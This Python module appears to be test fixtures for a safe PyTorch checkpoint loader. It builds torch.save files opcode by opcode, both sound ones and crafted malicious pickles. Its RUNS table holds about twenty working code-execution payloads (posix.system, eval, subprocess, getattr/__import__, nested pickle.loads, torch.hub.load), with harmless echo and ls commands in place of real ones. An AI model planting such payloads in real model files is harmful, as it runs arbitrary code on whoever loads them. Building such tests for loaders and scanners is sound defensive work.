"""Writes files of torch.save opcode by opcode: sound ones, and ones that no torch would write."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Mapping
from typing import Any, NamedTuple

from hostile.cases import MARKER

MAGIC = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."


class Raw(NamedTuple):
    """Opcodes that leave one value on the stack."""

    code: bytes


def text(value: str) -> bytes:
    """BINUNICODE."""
    data = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(data)) + data


def named(module: str, name: str) -> bytes:
    """GLOBAL."""
    return f"c{module}\n{name}\n".encode()


def code(value: Any) -> bytes:
    """Opcodes of plain data, and of what stands in it as opcodes."""
    if isinstance(value, Raw):
        return value.code
    if value is None or isinstance(value, bool):
        return {None: b"N", True: b"\x88", False: b"\x89"}[value]
    if isinstance(value, int):
        return (
            b"J" + struct.pack("<i", value)
            if abs(value) < 1 << 31
            else b"\x8a\x20" + value.to_bytes(32, "little", signed=True)
        )
    if isinstance(value, float):
        return b"G" + struct.pack(">d", value)
    if isinstance(value, str):
        return text(value)
    if isinstance(value, dict):
        return b"}(" + b"".join(code(key) + code(each) for key, each in value.items()) + b"u"
    if isinstance(value, list):
        return b"](" + b"".join(map(code, value)) + b"e"
    return b"(" + b"".join(map(code, value)) + b"t"


def pickled(value: Any, protocol: int = 2) -> bytes:
    """A whole pickle."""
    return b"\x80" + bytes([protocol]) + code(value) + b"."


def called(module: str, name: str, *arguments: Any) -> Raw:
    """REDUCE of a global."""
    return Raw(named(module, name) + code(arguments) + b"R")


def storage(key: Any, numel: Any, kind: Any = None, location: Any = "cpu", tag: Any = "storage") -> Raw:
    """A persistent reference to a storage."""
    kind = Raw(named("torch", "FloatStorage")) if kind is None else kind
    return Raw(code((tag, kind, key, location, numel)) + b"Q")


def tensor(key: Any, shape: Any, *, numel: Any = None, offset: Any = 0, stride: Any = None, kind: Any = None) -> Raw:
    """`_rebuild_tensor_v2`; what is not said is as it should be."""
    size = 1
    strides: list[int] = []
    for extent in reversed(shape) if isinstance(shape, tuple) else ():
        strides.append(size)
        size *= extent
    held = storage(key, size if numel is None else numel, kind)
    stride = tuple(reversed(strides)) if stride is None else stride
    hooks = called("collections", "OrderedDict")
    return called("torch._utils", "_rebuild_tensor_v2", held, offset, shape, stride, False, hooks)


GROUP = {"lr": 0.1, "betas": (0.9, 0.999), "eps": 1e-8, "weight_decay": 0, "amsgrad": False, "params": [0]}
DATA = {str(at): struct.pack("<4f", *(0.1 * (at + 1) * each for each in (1, 2, 3, 4))) for at in range(3)}


def sound(**more: Any) -> dict[Any, Any]:
    """A model of one weight with Adam's state."""
    state = {"step": 7, "exp_avg": tensor("1", (2, 2)), "exp_avg_sq": tensor("2", (2, 2))}
    content = {"model": {"w": tensor("0", (2, 2))}, "optimizer": {"state": {0: state}, "param_groups": [GROUP]}}
    return {**content, **more}


def zipped(data: bytes, storages: Mapping[str, bytes] = DATA, root: str = "archive", *, packed: bool = False) -> bytes:
    """The archive of torch 1.6 and later."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED) as archive:
        archive.writestr(f"{root}/data.pkl", data)
        for key, each in storages.items():
            archive.writestr(f"{root}/data/{key}", each)
        archive.writestr(f"{root}/version", "3\n")
    return stream.getvalue()


SYSTEM = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}


def stream(
    content: Any,
    *,
    version: Any = 1001,
    system: Any = SYSTEM,
    keys: Any = tuple(DATA),
    counts: tuple[int, ...] = (4, 4, 4),
) -> bytes:
    """The stream of torch before 1.6."""
    parts = [MAGIC, pickled(version), pickled(system), pickled(content)]
    parts.append(pickled(list(keys) if isinstance(keys, tuple) else keys))
    parts += [struct.pack("<q", count) + each for count, each in zip(counts, DATA.values(), strict=True)]
    return b"".join(parts)


RUNS: dict[str, Raw] = {
    "REDUCE": called("posix", "system", f"echo {MARKER}"),
    "REDUCE of Python 2": called("__builtin__", "eval", f"'{MARKER}'"),
    "subprocess": called("subprocess", "check_output", [f"echo {MARKER}"]),
    "INST": Raw(b"(" + text(f"echo {MARKER}") + b"iposix\nsystem\n"),
    "OBJ": Raw(b"(" + named("posix", "system") + text(f"echo {MARKER}") + b"o"),
    "NEWOBJ": Raw(named("posix", "system") + code((f"echo {MARKER}",)) + b"\x81"),
    "NEWOBJ_EX": Raw(named("posix", "system") + code((f"echo {MARKER}",)) + b"}\x92"),
    "a lazy call": Raw(
        named("builtins", "list")
        + code((Raw(named("builtins", "map") + code((Raw(named("posix", "system")), ["ls"])) + b"\x81"),))
        + b"\x81"
    ),
    "STACK_GLOBAL": Raw(b"\x8c\x05posix\x8c\x06system\x93" + code((f"echo {MARKER}",)) + b"R"),
    "STACK_GLOBAL by memo": Raw(b"\x8c\x06systemq\x300\x8c\x05posixh\x30\x93" + code(("ls",)) + b"R"),
    "a dotted name": Raw(b"\x8c\x13torch.serialization\x8c\x09os.system\x93" + code(("ls",)) + b"R"),
    "__setstate__ by BUILD": Raw(
        named("argparse", "Namespace")
        + b")\x81"
        + code({"__setstate__": Raw(named("posix", "system"))})
        + b"b"
        + text("ls")
        + b"b"
    ),
    "getattr": called("builtins", "getattr", called("builtins", "__import__", "os"), "system"),
    "pickle.loads": called("pickle", "loads", called("_codecs", "encode", "cposix\nsystem\n.", "latin1")),
    "add_extension": called("copyreg", "add_extension", "posix", "system", 1),
    "a profiler": called("cProfile", "run", f"'{MARKER}'"),
    "operator": called("operator", "methodcaller", "system", "ls"),
    "torch.hub": called("torch.hub", "load", "somebody/something", "model"),
    "numpy's runstring": called("numpy.testing._private.utils", "runstring", "'x'", {}),
}
"""Ways to run code → opcodes."""
